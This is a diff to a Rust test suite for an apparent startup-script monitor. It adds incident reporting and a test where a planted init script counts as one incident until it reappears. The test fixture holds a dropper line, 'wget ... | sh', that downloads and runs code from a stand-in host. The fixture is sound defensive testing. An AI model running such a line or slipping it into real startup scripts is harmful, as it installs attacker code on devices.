@@ -85,6 +85,7 @@ impl Monitor {
                     let name = word("path").rsplit('/').next().unwrap();
                     said.push(format!("{} {name}", word("state")));
                 }
+                Some("incident") => said.push(format!("incident {}", row["severity"].as_str().unwrap())),
                 other => panic!("{other:?}: {row}"),
             }
         }
@@ -181,6 +182,32 @@ fn a_startup_file_is_told_at_once_and_only_once() {
     fs::remove_dir_all(tree.path().join("jffs/scripts")).unwrap();
     assert_eq!(monitor.full(), (vec!["gone later".into()], "clean".into()));
     assert_eq!(monitor.full(), (none(), "clean".into()), "the heartbeat");
+    assert_eq!(monitor.end(Signal::SIGTERM), "");
+}
+
+#[test]
+fn an_intruder_is_one_incident_until_he_is_back() {
+    let (tree, state) = (Tree::healthy().dir("etc/init.d"), temporary());
+    let monitor = Monitor::of(&tree, state.path(), &[&SELDOM[..], &["--only", "startup-dropper"]].concat());
+    assert_eq!(monitor.look(), (none(), "clean".into()));
+    let file = tree.path().join("etc/init.d/S99x");
+    let dropper = "wget -O- http://192.0.2.1/x | sh\n";
+    let told = (vec!["new S99x".into(), "incident infected".into()], "infected".into());
+    fs::write(&file, dropper).unwrap();
+    assert_eq!(monitor.look(), told);
+    assert_eq!(monitor.full(), (none(), "infected".into()), "it is known");
+    // Other news are none of his.
+    let other = tree.path().join("etc/init.d/S98y");
+    fs::write(&other, ODD).unwrap();
+    assert_eq!(monitor.look(), (vec!["new S98y".into()], "infected".into()));
+    fs::remove_file(other).unwrap();
+    fs::remove_file(&file).unwrap();
+    let (mut said, verdict) = monitor.full();
+    said.sort();
+    assert_eq!((said, verdict.as_str()), (vec!["gone S98y".into(), "gone S99x".into()], "clean"));
+    fs::write(&file, dropper).unwrap();
+    let (said, verdict) = monitor.look();
+    assert_eq!((said, verdict.as_str()), (vec!["again S99x".into(), "incident infected".into()], "infected"));
     assert_eq!(monitor.end(Signal::SIGTERM), "");
 }
 
